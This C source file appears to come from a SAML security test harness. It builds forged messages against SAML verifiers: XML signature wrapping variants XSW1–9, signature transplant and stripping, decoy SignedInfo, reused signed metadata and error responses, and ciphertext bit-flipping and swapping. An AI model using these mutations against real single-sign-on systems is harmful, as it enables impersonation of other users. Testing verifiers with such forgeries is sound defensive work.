/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The mutations of attackers who have one good message and no key. The wrapping attacks are those of "On
 * Breaking SAML: Be Whoever You Want to Be" (2012), numbered as tools number them.
 */
#include "world.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/evp.h>

#define ASSERTION "<saml:Assertion"
#define ASSERTION_END "</saml:Assertion>"
#define SIGNATURE "<ds:Signature "
#define SIGNATURE_END "</ds:Signature>"
#define RESPONSE_END "</samlp:Response>"

/* The attacker's own assertion: another holder, another ID, no signature. */
static char *evil_of(const char *assertion)
{
    char *bare =
        strstr(assertion, SIGNATURE) ? without_piece(assertion, SIGNATURE, SIGNATURE_END) : strdup(assertion);
    char *other = forge_replace(bare, FORGE_RRN, ATTACKER_RRN);
    char *out = forge_replace(other, "ID=\"_a8e2", "ID=\"_e666");
    free(bare), free(other);
    return out;
}

struct wrap {
    char *assertion, *signature, *bare, *evil, *evil_signed, *rest;
};

/* The parts of a message whose assertion is signed. */
static struct wrap parts_of(const char *message)
{
    struct wrap wrap;
    wrap.assertion = piece_of(message, ASSERTION, ASSERTION_END);
    wrap.signature = piece_of(wrap.assertion, SIGNATURE, SIGNATURE_END);
    wrap.bare = without_piece(wrap.assertion, SIGNATURE, SIGNATURE_END);
    wrap.evil = evil_of(wrap.assertion);
    wrap.evil_signed = inserted_after(wrap.evil, "</saml:Issuer>", wrap.signature);
    wrap.rest = without_piece(message, ASSERTION, ASSERTION_END);
    return wrap;
}

static void free_parts(struct wrap *wrap)
{
    free(wrap->assertion), free(wrap->signature), free(wrap->bare);
    free(wrap->evil), free(wrap->evil_signed), free(wrap->rest);
}

static char *around(const char *open, const char *piece, const char *close)
{
    size_t room = strlen(open) + strlen(piece) + strlen(close) + 1;
    char *out = calloc(1, room);
    snprintf(out, room, "%s%s%s", open, piece, close);
    return out;
}

/* The whole signed Response, its signature taken out. */
static char *bare_response(const char *message)
{
    return without_piece(message, SIGNATURE, SIGNATURE_END);
}

static char *evil_response(const char *message)
{
    char *other = forge_replace(message, FORGE_RRN, ATTACKER_RRN);
    char *out = forge_replace(other, "ID=\"_r3c1", "ID=\"_e777");
    free(other);
    return out;
}

static char *xsw1(const char *message, const char *argument)
{
    char *original = bare_response(message), *evil = evil_response(message);
    char *out = inserted_before(evil, SIGNATURE_END, original);
    free(original), free(evil);
    return (void)argument, out;
}

static char *xsw2(const char *message, const char *argument)
{
    char *original = bare_response(message), *evil = evil_response(message);
    char *out = inserted_before(evil, SIGNATURE, original);
    free(original), free(evil);
    return (void)argument, out;
}

static char *xsw3(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *out = inserted_before(message, ASSERTION, wrap.evil);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *xsw4(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *nested = inserted_before(wrap.evil, ASSERTION_END, wrap.assertion);
    char *out = inserted_before(wrap.rest, RESPONSE_END, nested);
    free(nested);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *xsw5(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *pair = around(wrap.evil_signed, wrap.bare, "");
    char *out = inserted_before(wrap.rest, RESPONSE_END, pair);
    free(pair);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *xsw6(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *nested = inserted_before(wrap.evil_signed, SIGNATURE_END, wrap.bare);
    char *out = inserted_before(wrap.rest, RESPONSE_END, nested);
    free(nested);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *xsw7(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *extensions = around("<samlp:Extensions>", wrap.evil, "</samlp:Extensions>");
    char *out = inserted_before(message, "<samlp:Status>", extensions);
    free(extensions);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *xsw8(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *object = around("<ds:Object>", wrap.bare, "</ds:Object>");
    char *nested = inserted_before(wrap.evil_signed, SIGNATURE_END, object);
    char *out = inserted_before(wrap.rest, RESPONSE_END, nested);
    free(object), free(nested);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *xsw9(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *extensions = around("<samlp:Extensions>", wrap.bare, "</samlp:Extensions>");
    char *evil = inserted_before(wrap.rest, RESPONSE_END, wrap.evil_signed);
    char *out = inserted_before(evil, "<samlp:Status>", extensions);
    free(extensions), free(evil);
    free_parts(&wrap);
    return (void)argument, out;
}

/*
 * The evil assertion alone, with the signature of the good one, which is nowhere: only the digest can tell.
 */
static char *transplant(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *same_id = forge_replace(wrap.evil_signed, "ID=\"_e666", "ID=\"_a8e2");
    char *out = inserted_before(wrap.rest, RESPONSE_END, argument[0] ? same_id : wrap.evil_signed);
    free(same_id);
    free_parts(&wrap);
    return out;
}

static char *move_signature(const char *message, const char *argument)
{
    char *signature = piece_of(message, SIGNATURE, SIGNATURE_END);
    char *rest = without_piece(message, SIGNATURE, SIGNATURE_END);
    char *out = inserted_before(rest, argument, signature);
    free(signature), free(rest);
    return out;
}

static char *copy_signature(const char *message, const char *argument)
{
    char *signature = piece_of(message, SIGNATURE, SIGNATURE_END);
    char *out = inserted_before(message, argument, signature);
    free(signature);
    return out;
}

static char *strip(const char *message, const char *argument)
{
    return (void)argument, without_piece(message, SIGNATURE, SIGNATURE_END);
}

/*
 * Two SignedInfo: the first is what was signed, the second is what a careless reader takes the digest from.
 */
static char *decoy(const char *message, const char *argument)
{
    char *info = piece_of(message, "<ds:SignedInfo>", "</ds:SignedInfo>");
    char *other = without_piece(info, "<ds:DigestValue>", "</ds:DigestValue>");
    char *evil =
        inserted_before(other, "</ds:Reference>",
                        "<ds:DigestValue>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=</ds:DigestValue>");
    char *out = strcmp(argument, "first") == 0 ? inserted_before(message, "<ds:SignedInfo>", evil)
                                               : inserted_after(message, "</ds:SignedInfo>", evil);
    free(info), free(other), free(evil);
    return out;
}

/* Something else that the provider signed, with the attacker's assertion in front or behind. */
static char *signed_metadata(const char *message, const char *argument)
{
    static const char form[] =
        "<md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\" ID=\"_m1\" "
        "entityID=\"" FORGE_ISSUER "\"></md:EntityDescriptor>";
    const struct forge_signing how = {.key = forge_key("idp"), .what = FORGE_RESPONSE};
    struct wrap wrap = parts_of(message);
    char *metadata = forge_sign(form, &how);
    char *evil = inserted_before(wrap.rest, RESPONSE_END, wrap.evil);
    char *out = inserted_before(evil, argument, metadata);
    free(metadata), free(evil);
    free_parts(&wrap);
    return out;
}

/* The evil message carries the signature of a Response that the provider signed without an assertion. */
static char *signed_error(const char *message, const char *argument)
{
    const struct forge_signing how = {.key = forge_key("idp"), .what = FORGE_RESPONSE};
    char *bare = without_piece(message, ASSERTION, ASSERTION_END), *error = forge_sign(bare, &how);
    struct wrap wrap = parts_of(message);
    char *out = inserted_before(error, RESPONSE_END, wrap.evil);
    free(bare), free(error);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *base64(const char *message, const char *argument)
{
    return forge_base64(message, strlen(message), (size_t)atol(argument));
}

static char *prepend(const char *message, const char *argument)
{
    return around(argument, message, "");
}

static char *append(const char *message, const char *argument)
{
    return around(message, "", argument);
}

static char *bom(const char *message, const char *argument)
{
    return (void)argument, around("\xef\xbb\xbf", message, "");
}

static char *only_assertion(const char *message, const char *argument)
{
    return (void)argument, piece_of(message, ASSERTION, ASSERTION_END);
}

static char *twice(const char *message, const char *argument)
{
    struct wrap wrap = parts_of(message);
    char *out = inserted_after(message, ASSERTION_END, wrap.assertion);
    free_parts(&wrap);
    return (void)argument, out;
}

static char *nothing_left(const char *message, const char *argument)
{
    return (void)message, strdup(argument);
}

static char *large(const char *message, const char *argument)
{
    size_t size = (size_t)atol(argument);
    char *spaces = calloc(1, size + 1);
    memset(spaces, ' ', size);
    char *out = around(message, spaces, "");
    free(spaces);
    return out;
}

/* Another character of the base64 alphabet behind the mark. */
static char *flip(const char *message, const char *argument)
{
    char *out = strdup(message), *at = strstr(out, argument);
    if (at) at[strlen(argument)] = at[strlen(argument)] == 'A' ? 'B' : 'A';
    return out;
}

/* The value of the content: what stands behind its key. */
static char *content_at(char *message)
{
    char *end = strstr(message, "</xenc:EncryptedKey>");
    char *at = end ? strstr(end, "<xenc:CipherValue>") : NULL;
    return at ? at + strlen("<xenc:CipherValue>") : message;
}

/* "flip 0": another octet in that place, from the end when negative; "cut 4": without the last octets. */
static char *cipher(const char *message, const char *argument)
{
    char *out = strdup(message), *value = content_at(out), *close = strchr(value, '<');
    char *base64_text = strndup(value, (size_t)(close - value)), word[8] = "";
    long number = 0, length = (long)strlen(base64_text) / 4 * 3;
    unsigned char *octets = calloc(1, (size_t)length + 4);
    sscanf(argument, "%7s %ld", word, &number);
    EVP_DecodeBlock(octets, (const unsigned char *)base64_text, (int)strlen(base64_text));
    for (const char *pad = strchr(base64_text, '='); pad && *pad; pad++) length--;
    if (strcmp(word, "flip") == 0) octets[number < 0 ? length + number : number] ^= 1;
    if (strcmp(word, "cut") == 0) length -= number;
    if (strcmp(word, "keep") == 0) length = number;
    char *changed = forge_base64((const char *)octets, (size_t)length, 0);
    char *head = strndup(out, (size_t)(value - out)), *joined = around(head, changed, close);
    free(out), free(base64_text), free(octets), free(changed), free(head);
    return joined;
}

/* The content of another message that was encrypted for us, under the key of this one. */
static char *swap(const char *message, const char *argument)
{
    const struct forge_sealing how = sealing_of(argument);
    char *other = forge_response(NULL, 0, NULL), *sealed = forge_encrypt(other, "Assertion", &how);
    char *from = content_at(sealed), *mine = strdup(message), *to = content_at(mine);
    char *head = strndup(mine, (size_t)(to - mine)), *value = strndup(from, strcspn(from, "<"));
    char *out = around(head, value, strchr(to, '<'));
    free(other), free(sealed), free(mine), free(head), free(value);
    return out;
}

/* security.md 36: the evil assertion in clear beside the encrypted one, or encrypted as well by anybody. */
static char *encrypted_new_attack(const char *message, const char *argument)
{
    char *good = forge_response(NULL, 0, NULL), *assertion = piece_of(good, ASSERTION, ASSERTION_END);
    char *evil = evil_of(assertion), *out = NULL;
    const struct forge_sealing how = {.key = NULL};
    char *sealed = forge_sealed_element(evil, strlen(evil), "EncryptedAssertion", &how);
    bool instead = strcmp(argument, "instead") == 0;
    char *rest = instead ? without_piece(message, "<saml:EncryptedAssertion", "</saml:EncryptedAssertion>")
                         : strdup(message);
    out = inserted_before(rest, RESPONSE_END, strcmp(argument, "clear") == 0 ? evil : sealed);
    free(good), free(assertion), free(evil), free(sealed), free(rest);
    return out;
}

mutation *mutation_named(const char *name)
{
    static const struct {
        const char *name;
        mutation *mutate;
    } all[] = {{"xsw1", xsw1},
               {"xsw2", xsw2},
               {"xsw3", xsw3},
               {"xsw4", xsw4},
               {"xsw5", xsw5},
               {"xsw6", xsw6},
               {"xsw7", xsw7},
               {"xsw8", xsw8},
               {"xsw9", xsw9},
               {"transplant", transplant},
               {"move-signature", move_signature},
               {"copy-signature", copy_signature},
               {"strip", strip},
               {"decoy", decoy},
               {"signed-metadata", signed_metadata},
               {"signed-error", signed_error},
               {"base64", base64},
               {"prepend", prepend},
               {"append", append},
               {"bom", bom},
               {"only-assertion", only_assertion},
               {"twice", twice},
               {"replace-all", nothing_left},
               {"large", large},
               {"flip", flip},
               {"cipher", cipher},
               {"swap", swap},
               {"encrypted-new", encrypted_new_attack}};
    for (size_t i = 0; i < sizeof all / sizeof *all; i++)
        if (strcmp(all[i].name, name) == 0) return all[i].mutate;
    return NULL;
}
